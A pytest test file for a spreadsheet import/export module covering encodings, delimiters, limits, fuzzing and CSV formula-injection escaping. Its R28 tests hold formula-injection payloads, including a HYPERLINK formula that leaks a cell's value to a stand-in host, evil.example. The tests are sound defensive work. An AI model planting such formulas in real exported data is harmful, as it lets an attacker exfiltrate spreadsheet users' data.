import csv
import io
import zipfile
from datetime import date, datetime
from functools import cache

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from kiosk import spreadsheet
from kiosk.spreadsheet import FORMULA_TRIGGERS, SpreadsheetError, read_table, safe_cell, write_csv


def csv_bytes(text, *, encoding="utf-8"):
    return text.encode(encoding)


def xlsx_bytes(rows, *, sheet_title=None):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    if sheet_title:
        workbook.create_sheet(sheet_title)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def zip_bytes(files):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def exported(rows, header=("a", "b")):
    stream = io.StringIO(newline="")
    write_csv(rows, header, stream)
    return stream.getvalue()


def values(table):
    return [row.values for row in table.rows]


# Reading CSV


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252", "utf-16"])
def test_reads_csv_in_every_encoding_excel_writes(encoding):
    table = read_table(csv_bytes("navn,avdeling\r\nKari Ødegård,Økonomi og Æresråd\r\n", encoding=encoding), "h.csv")

    assert values(table) == [{"navn": "Kari Ødegård", "avdeling": "Økonomi og Æresråd"}]


def test_reads_windows_1252_bytes_for_norwegian_letters():
    table = read_table(b"navn\r\n\xc5se \xd8deg\xe5rd \xc6r\xf8\r\n", "h.csv")

    assert values(table) == [{"navn": "Åse Ødegård Ærø"}]


@pytest.mark.parametrize("lines, bad_line", [
    (["navn", "Kari Ødegård".encode(), "Åse Berg".encode("cp1252")], 3),  # UTF-8, then a pasted Windows line
    (["navn", "Åse Berg".encode("cp1252"), "Kari Ødegård".encode(), "Ola Ås".encode()], 2),
])
def test_r27_a_file_mixing_utf8_and_windows_1252_is_refused_naming_the_first_line_that_is_not_utf8(lines, bad_line):
    data = b"\r\n".join(line if isinstance(line, bytes) else line.encode() for line in lines) + b"\r\n"
    with pytest.raises(spreadsheet.SpreadsheetError) as e:
        read_table(data, "h.csv")
    assert f"line {bad_line} is written differently" in str(e.value)
    assert "Åse" not in str(e.value) and "Ødegård" not in str(e.value).replace("names like Ødegård", "")


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_sniffs_the_delimiter_from_the_header_line(delimiter):
    text = delimiter.join(["name", "phone", "department"]) + "\n" + delimiter.join(["Kari", "41234567", "HR"])

    assert values(read_table(csv_bytes(text), "h.csv")) == [{"name": "Kari", "phone": "41234567", "department": "HR"}]


def test_delimiters_inside_quotes_do_not_count_when_sniffing():
    text = '"name, full, really";phone\n"Berg, Kari";41234567\n'

    assert values(read_table(csv_bytes(text), "h.csv")) == [{"name, full, really": "Berg, Kari", "phone": "41234567"}]


def test_a_file_with_one_column_needs_no_delimiter():
    assert values(read_table(csv_bytes("name\nKari\n"), "h.csv")) == [{"name": "Kari"}]


def test_quoted_fields_keep_delimiters_quotes_and_line_breaks():
    text = 'name;note\n"Berg; Kari";"first line\nsecond ""quoted"" line"\n'

    assert values(read_table(csv_bytes(text), "h.csv")) == [
        {"name": "Berg; Kari", "note": 'first line\nsecond "quoted" line'}
    ]


def test_row_numbers_are_the_row_numbers_excel_shows():
    text = '\nname,note\n"Kari","two\nlines"\n\nOla,x\n'

    assert [row.line for row in read_table(csv_bytes(text), "h.csv").rows] == [3, 5]


@pytest.mark.parametrize("blank", ["", "   ", ",,", " ; ; "])
def test_blank_lines_are_skipped(blank):
    text = f"name;phone\n{blank}\nKari;41234567\n{blank}\n".replace(",", ";")

    assert values(read_table(csv_bytes(text), "h.csv")) == [{"name": "Kari", "phone": "41234567"}]


def test_headers_are_trimmed_casefolded_and_single_spaced():
    table = read_table(csv_bytes("  Full   NAME ,E-Post\nKari,k@example.no\n"), "h.csv")

    assert table.header == ["full name", "e-post"]


def test_values_are_trimmed_even_around_quotes():
    table = read_table(csv_bytes('name,phone\n  Kari Berg  , "412 34 567" \n'), "h.csv")

    assert values(table) == [{"name": "Kari Berg", "phone": "412 34 567"}]


def test_short_rows_get_empty_values_and_extra_cells_are_ignored():
    table = read_table(csv_bytes("name,phone,department\nKari\nOla,41234567,HR,extra\n"), "h.csv")

    assert values(table) == [
        {"name": "Kari", "phone": "", "department": ""},
        {"name": "Ola", "phone": "41234567", "department": "HR"},
    ]


def test_columns_without_a_header_name_are_left_out():
    table = read_table(csv_bytes("name,,phone,\nKari,note,41234567,\n"), "h.csv")

    assert table.header == ["name", "", "phone"]
    assert values(table) == [{"name": "Kari", "phone": "41234567"}]


# Reading XLSX


def test_reads_the_first_sheet_of_an_xlsx_file():
    data = xlsx_bytes([["Navn", "Mobil"], ["Kari Ødegård", "412 34 567"]], sheet_title="Other sheet")

    assert values(read_table(data, "hosts.xlsx")) == [{"navn": "Kari Ødegård", "mobil": "412 34 567"}]


@pytest.mark.parametrize(
    "cell, text",
    [
        (41234567.0, "41234567"),
        (41234567, "41234567"),
        (3.5, "3.5"),
        (True, "TRUE"),
        (date(2025, 3, 1), "2025-03-01"),
        (datetime(2025, 3, 1, 9, 30), "2025-03-01T09:30:00"),
        ("  padded  ", "padded"),
    ],
)
def test_xlsx_cells_become_the_text_a_person_sees(cell, text):
    data = xlsx_bytes([["value"], [cell]])

    assert values(read_table(data, "h.xlsx")) == [{"value": text}]


def test_xlsx_row_numbers_count_blank_rows():
    workbook = openpyxl.Workbook()
    workbook.active["A2"] = "name"
    workbook.active["A5"] = "Kari"
    buffer = io.BytesIO()
    workbook.save(buffer)

    assert [row.line for row in read_table(buffer.getvalue(), "h.xlsx").rows] == [5]


def test_the_content_decides_the_format_not_the_file_name():
    assert values(read_table(xlsx_bytes([["name"], ["Kari"]]), "hosts.csv")) == [{"name": "Kari"}]
    assert values(read_table(csv_bytes("name\nOla\n"), "hosts.xlsx")) == [{"name": "Ola"}]


# Refusing what cannot be read


@pytest.mark.parametrize(
    "data, message",
    [
        (b"", "The file is empty"),
        (b"\r\n\r\n  \n", "no header row"),
        (b"name,phone\r\n", "no rows below it"),
        (b"name,phone\r\n,\r\n", "no rows below it"),
        (b"name,phone\nKari\x00,41234567\n", "binary data"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "binary data"),
        (b"name\n\x81\x8d\x8f\x90\x9d\n", "letters in this file could not be read"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100), "old-style Excel file (.xls)"),
        (zip_bytes({"hosts.csv": "name,phone\nKari,41234567\n"}), "is a ZIP archive"),
        (zip_bytes({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}), "is a ZIP archive"),
        (b"PK\x03\x04" + b"garbage" * 20, "damaged"),
        (zip_bytes({"xl/workbook.xml": "<not-a-workbook"}), "damaged"),
        (b"name,Name\nKari,Ola\n", "“name” more than once"),
    ],
)
def test_unreadable_files_raise_a_spreadsheet_error_in_plain_words(data, message):
    with pytest.raises(SpreadsheetError, match=message.replace("(", r"\(").replace(")", r"\)")):
        read_table(data, "hosts.csv")


def test_a_zip_renamed_to_csv_is_named_in_the_message():
    with pytest.raises(SpreadsheetError, match="hosts.csv is a ZIP archive"):
        read_table(zip_bytes({"readme.txt": "hello"}), "hosts.csv")


def test_more_rows_than_the_limit_are_refused():
    with pytest.raises(SpreadsheetError, match="more than 3 rows"):
        read_table(csv_bytes("name\na\nb\nc\nd\n"), "h.csv", max_rows=3)


def test_exactly_the_row_limit_is_accepted():
    assert len(read_table(csv_bytes("name\na\nb\nc\n"), "h.csv", max_rows=3).rows) == 3


@pytest.mark.parametrize(
    "text, message",
    [
        ("a,b,c,d\n1,2,3,4\n", "header row has more than 3 columns"),
        ("a,b,c\n1,2,3,4\n", "Line 2 has more than 3 columns"),
    ],
)
def test_more_columns_than_the_limit_are_refused(text, message):
    with pytest.raises(SpreadsheetError, match=message):
        read_table(csv_bytes(text), "h.csv", max_columns=3)


def test_empty_cells_past_the_column_limit_are_accepted():
    assert values(read_table(csv_bytes("a,b,c,,,\n1,2,3,,,,,\n"), "h.csv", max_columns=3)) == [
        {"a": "1", "b": "2", "c": "3"}
    ]


def test_an_xlsx_with_more_columns_than_the_limit_is_refused():
    with pytest.raises(SpreadsheetError, match="more than 3 columns"):
        read_table(xlsx_bytes([["a", "b"], [1, 2, 3, 4]]), "h.xlsx", max_columns=3)


def test_an_xlsx_that_unpacks_too_large_is_refused(monkeypatch):
    monkeypatch.setattr(spreadsheet, "MAX_UNPACKED_BYTES", 1000)

    with pytest.raises(SpreadsheetError, match="too large when unpacked"):
        read_table(xlsx_bytes([["name"], ["Kari"]]), "h.xlsx")


def test_a_quote_that_is_never_closed_is_refused_when_the_cell_grows_too_long():
    data = csv_bytes('name,phone\n"Kari,41234567\n' + "Ola,41234568\n" * 20_000)

    with pytest.raises(SpreadsheetError, match="Line 2 could not be read"):
        read_table(data, "h.csv")


@given(st.binary(max_size=2000))
def test_r38_read_table_on_arbitrary_bytes_raises_only_spreadsheet_error(data):
    try:
        read_table(data, "any.csv")
    except SpreadsheetError:
        pass


@given(st.binary(max_size=2000))
def test_r38_read_table_on_arbitrary_zip_like_bytes_raises_only_spreadsheet_error(data):
    try:
        read_table(b"PK\x03\x04" + data, "any.xlsx")
    except SpreadsheetError:
        pass


@cache
def small_workbook():
    return xlsx_bytes([["name", "phone"], ["Kari", 41234567]])


@given(st.integers(0, 4000), st.binary(min_size=1, max_size=8))
def test_r38_read_table_on_a_damaged_xlsx_raises_only_spreadsheet_error(position, damage):
    data = bytearray(small_workbook())
    position %= len(data)
    data[position : position + len(damage)] = damage

    try:
        read_table(bytes(data), "h.xlsx")
    except SpreadsheetError:
        pass


# Writing CSV (R28)


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=HYPERLINK(\"https://evil.example\",\"Click\")", "'=HYPERLINK(\"https://evil.example\",\"Click\")"),
        ("+4741234567", "'+4741234567"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("\0cmd", "'\0cmd"),
        ("'t Hooft", "''t Hooft"),
    ],
)
def test_r28_safe_cell_prefixes_formula_triggers(value, cell):
    assert safe_cell(value) == cell


@pytest.mark.parametrize("value, cell", [("Kari Ødegård", "Kari Ødegård"), ("a=b", "a=b"), (None, ""), (42, "42")])
def test_safe_cell_leaves_other_values_as_text(value, cell):
    assert safe_cell(value) == cell


def test_write_csv_starts_with_a_utf8_byte_order_mark_for_excel():
    assert exported([["Åse", "Ø"]]).startswith("\ufeffa,b\r\n")


def test_write_csv_quotes_delimiters_quotes_and_line_breaks_as_rfc_4180_says():
    assert exported([['Berg, "Kari"', "two\nlines"]]) == '\ufeffa,b\r\n"Berg, ""Kari""","two\nlines"\r\n'


@given(st.lists(st.lists(st.text(max_size=20), min_size=2, max_size=2), max_size=10))
def test_r28_no_exported_cell_starts_with_a_trigger_unless_prefixed(rows):
    reader = csv.reader(io.StringIO(exported(rows).removeprefix("\ufeff"), newline=""))

    for cells in reader:
        for cell in cells:
            assert not cell.startswith(FORMULA_TRIGGERS)


_cell_text = st.text(st.characters(blacklist_categories=("Cc", "Cs")), max_size=20).filter(
    lambda text: text == text.strip()
)


@given(st.lists(st.lists(_cell_text, min_size=2, max_size=2).filter(any), min_size=1, max_size=10))
def test_r28_read_table_reads_back_what_write_csv_wrote(rows):
    table = read_table(exported(rows).encode("utf-8"), "export.csv")

    assert [[row.values["a"], row.values["b"]] for row in table.rows] == rows


def test_r28_a_hyperlink_formula_survives_export_and_import_as_text():
    name = '=HYPERLINK("https://evil.example/?leak="&A2,"Click for prize")'

    assert values(read_table(exported([[name, "x"]]).encode("utf-8"), "export.csv")) == [{"a": name, "b": "x"}]
